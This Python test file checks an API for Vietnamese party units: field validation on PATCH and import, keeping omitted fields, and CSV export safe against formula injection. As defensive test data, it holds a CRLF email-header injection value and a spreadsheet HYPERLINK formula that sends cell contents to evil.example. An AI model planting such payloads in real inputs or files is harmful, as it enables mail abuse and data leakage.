"""A unit's name, level and mailboxes are checked the same way whether they come from a file
or a PATCH, and a file that leaves a field out does not clear it."""

from __future__ import annotations

import pytest

from tests.units.conftest import PROVINCE, XA2

UNITS = "/api/v1/units"
UNUSABLE_MAILBOXES = {
    "a line break that would add a header": "x@y.vn\r\nBcc: evil@z.vn",
    "accented letters": "văn.thư@tỉnh.vn",
    "not an address": "not an address",
    "two addresses in one": "a;b@c.vn",
    "blank": "",
}


def _problem(r, status: int) -> dict:
    assert r.status_code == status, r.text
    assert r.headers["content-type"].startswith("application/problem+json")
    return r.json()


@pytest.mark.parametrize("case", UNUSABLE_MAILBOXES)
async def test_a_mailbox_no_message_could_carry_is_refused_by_patch_and_import(client, world, snapshot,
                                                                               case) -> None:
    before = await snapshot()
    address = UNUSABLE_MAILBOXES[case]
    r = await client.patch(f"{UNITS}/{XA2}", headers=world.auth("admin"), json={"mailboxes": [address]})
    assert "mailbox" in _problem(r, 422)["detail"]
    r = await client.post(f"{UNITS}/import", headers=world.auth("admin"), json=[
        {"code": "000.09.09.H99", "name": "Chi bộ mới", "level": "Chi bộ", "parent_code": XA2,
         "mailboxes": [address]}])
    assert "mailbox" in _problem(r, 422)["detail"]
    assert await snapshot() == before


@pytest.mark.parametrize("field", ["name", "level"])
async def test_a_blank_name_or_level_is_refused_by_patch(client, world, snapshot, field) -> None:
    before = await snapshot()
    for blank in (" ", "\u3000\t "):
        r = await client.patch(f"{UNITS}/{XA2}", headers=world.auth("admin"), json={field: blank})
        assert f"the {field} cannot be blank" in _problem(r, 422)["detail"]
    assert await snapshot() == before


async def test_a_patched_tree_still_exports_and_imports_whole(client, world) -> None:
    admin = world.auth("admin")
    r = await client.patch(f"{UNITS}/{XA2}", headers=admin,
                           json={"name": "  Đảng ủy phường  Hồng Hà ", "mailboxes": ["VanThu.HongHa@hason.vn"]})
    assert r.status_code == 200, r.text
    for fmt in ("json", "csv"):
        exported = await client.get(f"{UNITS}/export", headers=admin, params={"format": fmt})
        ctype = "text/csv" if fmt == "csv" else "application/json"
        again = await client.post(f"{UNITS}/import", headers={**admin, "content-type": ctype},
                                  content=exported.content)
        assert again.status_code == 200, again.text


async def test_a_file_that_leaves_out_mailboxes_and_seal_keeps_them(client, world) -> None:
    admin = world.auth("admin")
    r = await client.patch(f"{UNITS}/{XA2}", headers=admin, json={"mailboxes": ["vanthu@hongha.vn"], "has_seal": True})
    assert r.status_code == 200, r.text
    renamed = {"code": XA2, "name": "Đảng ủy phường Hồng Hà (mới)", "level": "Đảng ủy xã", "parent_code": PROVINCE}
    assert (await client.post(f"{UNITS}/import", headers=admin, json=[renamed])).status_code == 200
    csv = f"code,name,level,parent_code\n{XA2},Đảng ủy phường Hồng Hà,Đảng ủy xã,{PROVINCE}\n"
    r = await client.post(f"{UNITS}/import", headers={**admin, "content-type": "text/csv"}, content=csv.encode())
    assert r.status_code == 200, r.text
    unit = (await client.get(f"{UNITS}/{XA2}", headers=admin)).json()
    assert unit["name"] == "Đảng ủy phường Hồng Hà"
    assert unit["mailboxes"] == ["vanthu@hongha.vn"]
    assert unit["has_seal"] is True
    # Named with an empty value, they are cleared.
    cleared = f"code,name,level,parent_code,mailboxes,has_seal\n{XA2},Đảng ủy phường Hồng Hà,Đảng ủy xã,{PROVINCE},,\n"
    r = await client.post(f"{UNITS}/import", headers={**admin, "content-type": "text/csv"}, content=cleared.encode())
    assert r.status_code == 200, r.text
    unit = (await client.get(f"{UNITS}/{XA2}", headers=admin)).json()
    assert (unit["mailboxes"], unit["has_seal"]) == ([], False)


async def test_the_csv_export_opens_safely_in_a_spreadsheet_and_imports_back(client, world) -> None:
    admin = world.auth("admin")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    r = await client.patch(f"{UNITS}/{XA2}", headers=admin, json={"name": formula, "level": "+Đảng ủy xã"})
    assert r.status_code == 200, r.text
    exported = await client.get(f"{UNITS}/export", headers=admin, params={"format": "csv"})
    assert exported.content.startswith("\ufeff".encode()), "Excel needs the BOM to read Vietnamese as UTF-8"
    assert exported.headers["content-disposition"] == f'attachment; filename="units-{PROVINCE}.csv"'
    row = next(line for line in exported.text.splitlines() if line.startswith(XA2))
    assert "'=HYPERLINK" in row, "no cell may start a formula"
    assert ",'+Đảng ủy xã," in row
    assert all(not cell.startswith(("=", "+", "-", "@")) for line in exported.text.splitlines()
               for cell in line.split(","))
    # Imported back, the names are what the admin typed, not the guarded cells.
    again = await client.post(f"{UNITS}/import", headers={**admin, "content-type": "text/csv"},
                              content=exported.content)
    assert again.status_code == 200, again.text
    unit = (await client.get(f"{UNITS}/{XA2}", headers=admin)).json()
    assert (unit["name"], unit["level"]) == (formula, "+Đảng ủy xã")
